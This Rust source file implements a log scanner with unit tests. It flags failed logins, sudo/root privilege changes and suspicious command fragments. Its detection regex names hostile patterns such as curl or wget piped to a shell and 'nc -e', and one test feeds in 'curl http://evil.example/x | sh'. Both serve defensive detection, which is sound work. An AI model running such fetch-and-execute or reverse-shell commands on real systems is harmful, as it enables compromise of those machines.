//! Log scanning for authentication failures, privilege escalation and
//! suspicious command fragments.

use std::collections::{HashMap, VecDeque};
use std::fs::File;
use std::io::{BufRead, BufReader};
use std::path::Path;
use std::sync::LazyLock;

use regex::{Regex, RegexBuilder};
use tracing::{debug, warn};

use super::{Confidence, Finding, FindingKind, Severity};

// Matching lines kept as evidence per finding
const EVIDENCE_LINES: usize = 5;
// Match count at which a rule's finding is reported with high confidence
const HIGH_CONFIDENCE_MATCHES: usize = 5;

/// One log rule: (name, pattern, severity, suggested fix).
const LOG_RULES: &[(&str, &str, Severity, &str)] = &[
    (
        "failed_login",
        r"failed password|authentication failure|invalid user|failed login|login incorrect|failed publickey",
        Severity::Medium,
        "Investigate the source addresses; consider fail2ban or key-only SSH authentication",
    ),
    (
        "privilege_escalation",
        r"\bsudo\b.*\bCOMMAND=|\bsu(\[\d+\])?:\s|session opened for user root|gained privileges|elevated privileges",
        Severity::High,
        "Confirm each privilege change was authorized and review sudoers entries",
    ),
    (
        "suspicious_command",
        r"(curl|wget)\b[^|]*\|\s*(ba|z)?sh\b|chmod\s+\+x|/tmp/\S+\.(sh|py|pl|elf|bin)\b|\bnc\s+(-\w+\s+)*-e\b|base64\s+(-d|--decode)",
        Severity::High,
        "Review the surrounding log entries and the commands' origin for signs of compromise",
    ),
];

static SOURCE_ADDRESS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"\bfrom\s+(\d{1,3}(?:\.\d{1,3}){3}|[0-9a-fA-F]*:[0-9a-fA-F:]+)").ok()
});

struct LogRule {
    name: &'static str,
    regex: Regex,
    severity: Severity,
    suggested_fix: &'static str,
}

/// Scans the tail of log files against a fixed rule table.
pub struct LogScanner {
    rules: Vec<LogRule>,
    tail_lines: usize,
}

impl LogScanner {
    pub fn new(tail_lines: usize) -> Self {
        let rules = LOG_RULES
            .iter()
            .filter_map(|(name, pattern, severity, fix)| {
                match RegexBuilder::new(pattern).case_insensitive(true).build() {
                    Ok(regex) => Some(LogRule {
                        name,
                        regex,
                        severity: *severity,
                        suggested_fix: fix,
                    }),
                    Err(e) => {
                        warn!(rule = name, error = %e, "log rule failed to compile");
                        None
                    }
                }
            })
            .collect();
        Self { rules, tail_lines }
    }

    /// Scan one log file. An unreadable file yields a single informational
    /// finding instead of an error.
    pub fn scan_file(&self, path: &Path) -> Vec<Finding> {
        let location = path.display().to_string();
        match self.read_tail(path) {
            Ok(lines) => {
                debug!(path = %location, lines = lines.len(), "scanning log tail");
                self.scan_lines(&location, &lines)
            }
            Err(e) => {
                warn!(path = %location, error = %e, "log file not accessible");
                vec![
                    Finding::informational(format!("Log file not accessible: {location}"))
                        .description("The log file could not be read and was skipped")
                        .evidence(e.to_string())
                        .location(location)
                        .suggested_fix("Check that the path exists and rerun with sufficient privileges")
                        .confidence(Confidence::High),
                ]
            }
        }
    }

    /// Apply every rule to `lines`. One finding per rule that matched.
    pub fn scan_lines(&self, location: &str, lines: &[String]) -> Vec<Finding> {
        let mut findings = Vec::new();
        for rule in &self.rules {
            let matched: Vec<&str> = lines
                .iter()
                .map(String::as_str)
                .filter(|line| rule.regex.is_match(line))
                .collect();
            if matched.is_empty() {
                continue;
            }

            let mut description = format!(
                "Found {} line(s) matching {} in the last {} lines",
                matched.len(),
                rule.name,
                self.tail_lines
            );
            if rule.name == "failed_login" {
                if let Some((source, count)) = top_source(&matched) {
                    description.push_str(&format!("; most frequent source {source} ({count} times)"));
                }
            }
            let confidence = if matched.len() >= HIGH_CONFIDENCE_MATCHES {
                Confidence::High
            } else {
                Confidence::Medium
            };
            let evidence: Vec<&str> = matched.iter().take(EVIDENCE_LINES).copied().collect();

            findings.push(
                Finding::new(
                    FindingKind::Suspicious,
                    format!("Suspicious pattern in {location}: {}", rule.name),
                    rule.severity,
                )
                .description(description)
                .evidence(evidence.join("\n"))
                .location(location)
                .suggested_fix(rule.suggested_fix)
                .confidence(confidence),
            );
        }
        findings
    }

    fn read_tail(&self, path: &Path) -> std::io::Result<Vec<String>> {
        let mut reader = BufReader::new(File::open(path)?);
        let mut tail = VecDeque::with_capacity(self.tail_lines.min(4096));
        let mut buf = Vec::new();
        loop {
            buf.clear();
            if reader.read_until(b'\n', &mut buf)? == 0 {
                break;
            }
            if tail.len() == self.tail_lines {
                tail.pop_front();
            }
            if self.tail_lines > 0 {
                let line = String::from_utf8_lossy(&buf);
                tail.push_back(line.trim_end_matches(['\n', '\r']).to_string());
            }
        }
        Ok(tail.into())
    }
}

/// Most frequent source address among `lines`, ties broken by address.
fn top_source(lines: &[&str]) -> Option<(String, usize)> {
    let regex = SOURCE_ADDRESS.as_ref()?;
    let mut counts: HashMap<&str, usize> = HashMap::new();
    for line in lines {
        if let Some(caps) = regex.captures(line) {
            if let Some(addr) = caps.get(1) {
                *counts.entry(addr.as_str()).or_default() += 1;
            }
        }
    }
    counts
        .into_iter()
        .max_by(|a, b| a.1.cmp(&b.1).then_with(|| b.0.cmp(a.0)))
        .map(|(addr, count)| (addr.to_string(), count))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn write_log(lines: &[&str]) -> tempfile::NamedTempFile {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        for line in lines {
            writeln!(file, "{line}").unwrap();
        }
        file
    }

    #[test]
    fn test_single_failed_login_yields_one_medium_finding() {
        let file = write_log(&[
            "Jan 10 10:00:01 host sshd[123]: Failed password for root from 10.0.0.5 port 22 ssh2",
            "Jan 10 10:00:02 host CRON[99]: pam_unix(cron:session): session closed",
        ]);
        let findings = LogScanner::new(500).scan_file(file.path());

        assert_eq!(findings.len(), 1);
        let finding = &findings[0];
        assert_eq!(finding.severity, Severity::Medium);
        assert_eq!(finding.location, file.path().display().to_string());
        assert!(finding.title.contains("failed_login"));
        assert!(finding.description.contains("10.0.0.5"));
        assert_eq!(finding.confidence, Confidence::Medium);
    }

    #[test]
    fn test_privilege_escalation_is_high() {
        let file = write_log(&[
            "Jan 10 10:00:01 host sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
        ]);
        let findings = LogScanner::new(500).scan_file(file.path());
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].severity, Severity::High);
        assert!(findings[0].title.contains("privilege_escalation"));
    }

    #[test]
    fn test_suspicious_command_fragment() {
        let lines = vec!["bash: curl http://evil.example/x | sh".to_string()];
        let findings = LogScanner::new(500).scan_lines("/var/log/syslog", &lines);
        assert_eq!(findings.len(), 1);
        assert!(findings[0].title.contains("suspicious_command"));
    }

    #[test]
    fn test_repeated_failures_aggregate_with_top_source() {
        let mut lines = Vec::new();
        for i in 0..6 {
            lines.push(format!("sshd: Failed password for invalid user u{i} from 192.168.1.9 port 4{i}"));
        }
        lines.push("sshd: Failed password for root from 10.1.1.1 port 22".to_string());

        let findings = LogScanner::new(500).scan_lines("auth.log", &lines);
        assert_eq!(findings.len(), 1);
        let finding = &findings[0];
        assert!(finding.description.contains("Found 7 line(s)"));
        assert!(finding.description.contains("192.168.1.9 (6 times)"));
        assert_eq!(finding.evidence.lines().count(), EVIDENCE_LINES);
        assert_eq!(finding.confidence, Confidence::High);
    }

    #[test]
    fn test_only_tail_is_scanned() {
        let mut lines = vec!["sshd: Failed password for root from 10.0.0.1 port 22"];
        lines.extend(std::iter::repeat_n("kernel: eth0 link up", 10));
        let file = write_log(&lines);

        assert!(LogScanner::new(5).scan_file(file.path()).is_empty());
        assert_eq!(LogScanner::new(20).scan_file(file.path()).len(), 1);
    }

    #[test]
    fn test_clean_log_has_no_findings() {
        let file = write_log(&["systemd[1]: Started Daily apt upgrade.", "kernel: usb 1-1: new device"]);
        assert!(LogScanner::new(500).scan_file(file.path()).is_empty());
    }

    #[test]
    fn test_missing_file_is_informational() {
        let findings = LogScanner::new(500).scan_file(Path::new("/nonexistent/auth.log"));
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].severity, Severity::Info);
        assert_eq!(findings[0].kind, FindingKind::Informational);
        assert_eq!(findings[0].location, "/nonexistent/auth.log");
    }

    #[test]
    fn test_all_rules_compile() {
        assert_eq!(LogScanner::new(1).rules.len(), LOG_RULES.len());
    }
}
